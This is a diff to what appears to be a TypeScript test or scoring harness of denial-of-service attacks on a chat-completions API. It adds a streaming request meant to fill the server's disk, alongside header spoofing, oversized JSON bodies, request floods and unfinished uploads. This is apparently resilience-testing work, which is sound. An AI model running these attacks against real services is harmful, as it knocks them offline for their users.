@@ -2,6 +2,7 @@ import { setTimeout as delay } from 'node:timers/promises';
 import { WebSocket } from 'ws';
 import { held } from '../chat-requests.ts';
 import { RawRequest } from '../raw-request.ts';
+import { endlessModel } from './endless-vendor.ts';
 
 const path = '/v1/chat/completions';
 /** Of 40 connections with 1.8 MB a request, or 18 MB in 5 s, the attacker's network has 1 Gbit/s; of small ones some 1,500 come a second. Five a second of each fill a queue. */
@@ -32,6 +33,7 @@ const post = ({ url, key }: Target, body: string, more: RequestInit = {}): Promi
 /** An address that is neither the victim's nor the host's own; the api trusts the header. */
 const elsewhere = { 'x-forwarded-for': '203.0.113.7' };
 const small = JSON.stringify(held('Hi', { max_tokens: 5 }));
+const endless = JSON.stringify({ ...held('Hi', { max_tokens: 10 }), model: endlessModel, stream: true });
 /** Valid JSON of many values, which is long to parse and then refused. */
 const values = `{"model":"sandbox-chat","messages":[${'{},'.repeat(600_000)}{}]}`;
 
@@ -118,6 +120,15 @@ export const attacks: readonly Attack[] = [
   { name: 'many small requests', credit: 1, run: later('WORDS:2@1000', smallRestMs) },
   // A second each: they take all slots of the worker, and some more come than it ends.
   { name: 'a queue that is filled', credit: 1, run: later('WORDS:2@2', fillingRestMs) },
+  {
+    name: 'streams whose frames fill the disk',
+    credit: 1,
+    run: (target, signal) =>
+      repeat(signal, largeRestMs, async () => {
+        const answer = await post(target, endless, { signal });
+        for await (const _ of answer.body ?? []);
+      }),
+  },
   { name: 'unfinished bodies, without credit', credit: 0, run: unfinished(json, 18_000_000, '{') },
   { name: 'unfinished bodies', credit: 1, run: unfinished(json, 18_000_000, '{') },
   { name: 'unfinished forms', credit: 1, run: unfinished(form, 20_000_000, part) },
